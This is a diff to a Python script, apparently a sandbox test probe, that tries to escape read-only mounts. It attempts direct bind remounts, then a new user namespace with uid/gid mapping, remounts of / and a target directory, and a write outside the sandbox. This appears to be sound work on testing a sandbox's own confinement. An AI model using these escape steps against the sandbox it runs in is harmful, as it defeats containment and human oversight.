@@ -1,5 +1,5 @@
-"""Attack: create a user namespace (full capabilities inside it), then try to undo the sandbox:
-remount / read-write, bind a writable tmpfs over the target dir, and write outside (argv[1] = path)."""
+"""Attack: undo the sandbox's read-only mounts, first with the capabilities it left, then from a
+fresh user namespace (full capabilities inside it), and write outside (argv[1] = path)."""
 print("ATTACK-START", flush=True)
 import ctypes
 import os
@@ -17,6 +17,11 @@ def call(label, rc):
     return rc == 0
 
 
+folder = os.path.dirname(target).encode()
+# 1. with whatever capabilities the sandbox left us: undo its read-only remounts directly
+call("direct remount target dir rw", libc.mount(None, folder, None, MS_REMOUNT | MS_BIND, None))
+call("direct remount / rw", libc.mount(None, b"/", None, MS_REMOUNT | MS_BIND, None))
+# 2. a fresh user namespace (full capabilities inside it) and try again
 uid, gid = os.getuid(), os.getgid()
 if call("unshare(NEWUSER|NEWNS)", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)):
     for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
@@ -26,7 +31,6 @@ if call("unshare(NEWUSER|NEWNS)", libc.unshare(CLONE_NEWUSER | CLONE_NEWNS)):
         except OSError as exc:
             print(f"{name}: {exc}", flush=True)
     call("remount / rw", libc.mount(None, b"/", None, MS_REMOUNT, None))
-    folder = os.path.dirname(target).encode()
     call("remount target dir rw", libc.mount(None, folder, None, MS_REMOUNT | MS_BIND, None))
     call("unshare(NEWNET) again", libc.unshare(CLONE_NEWNET))
 try:
